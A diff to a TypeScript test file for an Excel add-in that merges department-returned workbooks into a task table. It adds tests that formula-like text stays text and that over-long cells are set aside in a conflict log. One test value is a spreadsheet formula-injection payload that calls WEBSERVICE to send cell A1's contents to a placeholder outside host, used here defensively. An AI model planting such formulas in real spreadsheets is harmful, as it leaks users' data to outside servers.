@@ -4,7 +4,7 @@
  * the planned cells of the task table and appends every conflict to 合并冲突, in few syncs.
  */
 import ExcelJS from "exceljs";
-import { CHANGE_LOG_SHEET, columnIndex, ColumnKey, dayFromIso, MERGE_LOG_HEADERS, MERGE_LOG_SHEET, parseTable, serialFromDay, SHEETS, TASK_COLUMNS } from "../../src/core";
+import { CHANGE_LOG_SHEET, columnIndex, ColumnKey, dayFromIso, letterOf, MERGE_LOG_HEADERS, MERGE_LOG_SHEET, parseTable, serialFromDay, SHEETS, TASK_COLUMNS } from "../../src/core";
 import { createExcelActions } from "../../src/taskpane/excel/actions";
 import { startChangeLog } from "../../src/taskpane/excel/changeLog";
 import { detectFeatures } from "../../src/taskpane/excel/requirements";
@@ -170,4 +170,100 @@ test.each(["1.17", "1.9"])("merge on a protected 任务清单 (department column
   expect(book.sheet(CHANGE_LOG_SHEET)).toBeUndefined();
   expect(problems).toEqual([]);
   await log.stop();
+});
+
+describe("what the merge writes stays what the department typed (issue #14)", () => {
+  const WEBSERVICE = '=WEBSERVICE("http://example.com/?q="&A1)';
+
+  /** The office reformats every 进展情况 cell as General, as Excel's Format Cells does. */
+  async function reformatNotesAsGeneral(book: FakeWorkbook) {
+    await book.run(async (context) => {
+      const notes = letterOf("notes");
+      context.workbook.worksheets.getItem(SHEETS.tasks).getRange(`${notes}2:${notes}196`).numberFormat = Array.from({ length: 195 }, () => ["General"]);
+      await context.sync();
+    });
+  }
+
+  test("the double enters text as Excel does: \"=…\" written into a General cell becomes a formula, into \"@\" stays text", async () => {
+    const { book, tasks } = await populated();
+    await reformatNotesAsGeneral(book);
+    const r = rowOf(tasks, "1.1");
+    expect(tasks.cell(r, col("notes"))?.numberFormat).toBe("General");
+    await book.run(async (context) => {
+      context.workbook.worksheets.getItem(SHEETS.tasks).getRange(`${letterOf("notes")}${r}`).values = [["=1+1"]];
+      await context.sync();
+    });
+    expect(tasks.cell(r, col("notes"))).toMatchObject({ formula: "=1+1", value: null });
+  });
+
+  test("进展情况 reformatted as General: a department's =WEBSERVICE(…) is written as text (\"@\" in the same request)", async () => {
+    const { book, actions, tasks, opened } = await populated();
+    await actions.exportDepartmentFile("市农牧局", EXPORTED);
+    const returned = await departmentEdits(new Uint8Array(Buffer.from(opened[0], "base64")), (row) => {
+      row("5.2").getCell(col("notes") + 1).value = WEBSERVICE;
+    });
+    await reformatNotesAsGeneral(book);
+    const calls = book.calls.length;
+    const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
+    expect(outcome.plan.updates).toHaveLength(1);
+    const cell = tasks.cell(rowOf(tasks, "5.2"), col("notes"));
+    expect(cell).toMatchObject({ value: WEBSERVICE, formula: undefined, numberFormat: "@" });
+    // The format went in the same request as the value, just before it.
+    const writes = book.calls.slice(calls).filter((c) => c.member === "numberFormat" || c.member === "values");
+    const valueWrite = writes.findIndex((c) => c.member === "values");
+    expect(writes[valueWrite - 1]).toMatchObject({ member: "numberFormat", args: [[["@"]]], batch: writes[valueWrite].batch, target: writes[valueWrite].target });
+  });
+
+  test("protected 任务清单 with 进展情况 reformatted as General: the formula-like text is not written but listed in 合并冲突", async () => {
+    const { book, actions, tasks, opened } = await populated();
+    await actions.exportDepartmentFile("市农牧局", EXPORTED);
+    const returned = await departmentEdits(new Uint8Array(Buffer.from(opened[0], "base64")), (row) => {
+      row("5.2").getCell(col("notes") + 1).value = WEBSERVICE;
+      row("5.2").getCell(col("progress") + 1).value = "推进中";
+    });
+    await reformatNotesAsGeneral(book);
+    await actions.protectTaskSheet({ password: "pw" });
+    const before = tasks.cell(rowOf(tasks, "5.2"), col("notes"))?.value ?? null;
+    const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
+    expect(outcome.plan.updates.map((u) => u.key)).toEqual(["progress"]);
+    expect(tasks.cell(rowOf(tasks, "5.2"), col("progress"))?.value).toBe("推进中");
+    expect(tasks.cell(rowOf(tasks, "5.2"), col("notes"))).toMatchObject({ value: before, formula: undefined });
+    const log = book.sheet(MERGE_LOG_SHEET)!;
+    expect(book.valuesOf(log, { r1: 2, r2: 2, c1: 1, c2: 6 })[0]).toEqual(["5.2", "进展情况", "", WEBSERVICE, "", expect.stringContaining("已不是文本格式")]);
+    expect(log.cell(2, 4)).toMatchObject({ value: WEBSERVICE, formula: undefined });
+  });
+
+  test("a 进展情况 of 40,000 characters is never sent to Excel: set aside in 合并冲突, shown shortened with a marker", async () => {
+    const { book, actions, tasks, opened } = await populated();
+    await actions.exportDepartmentFile("市农牧局", EXPORTED);
+    const long = "进".repeat(40_000);
+    const returned = await departmentEdits(new Uint8Array(Buffer.from(opened[0], "base64")), (row) => {
+      row("5.2").getCell(col("notes") + 1).value = long;
+      row("5.2").getCell(col("progress") + 1).value = "推进中";
+    });
+    const calls = book.calls.length;
+    const outcome = await actions.mergeDepartmentFile(returned, "SOIL-市农牧局.xlsx");
+    expect(outcome.plan.updates.map((u) => u.key)).toEqual(["progress"]);
+    expect(outcome.plan.report).toMatchObject({ applied: 1, conflicts: 1 });
+    expect(tasks.cell(rowOf(tasks, "5.2"), col("notes"))?.value ?? null).not.toBe(long);
+    // Nothing longer than a cell holds went into any request (the double would have failed it).
+    const sent = JSON.stringify(book.calls.slice(calls).map((c) => c.args));
+    expect(sent).not.toContain("进".repeat(32_768));
+    const log = book.sheet(MERGE_LOG_SHEET)!;
+    const [id, column, , shown, , reason] = book.valuesOf(log, { r1: 2, r2: 2, c1: 1, c2: 6 })[0] as string[];
+    expect([id, column]).toEqual(["5.2", "进展情况"]);
+    expect(shown.length).toBeLessThanOrEqual(32_767);
+    expect(shown).toMatch(/^进+……【已截断：原文 40,000 个字符，超过 Excel 单元格上限，全文见部门交回的文件】$/);
+    expect(reason).toContain("部门填写的内容有 40,000 个字符，超过 Excel 单元格的上限 32,767 个字符，未写入");
+  });
+
+  test("the double refuses a text longer than 32,767 characters, as Excel does", async () => {
+    const { book } = await populated();
+    await expect(
+      book.run(async (context) => {
+        context.workbook.worksheets.getItem(SHEETS.tasks).getRange("B2").values = [["字".repeat(32_768)]];
+        await context.sync();
+      }),
+    ).rejects.toMatchObject({ code: "InvalidArgument" });
+  });
 });
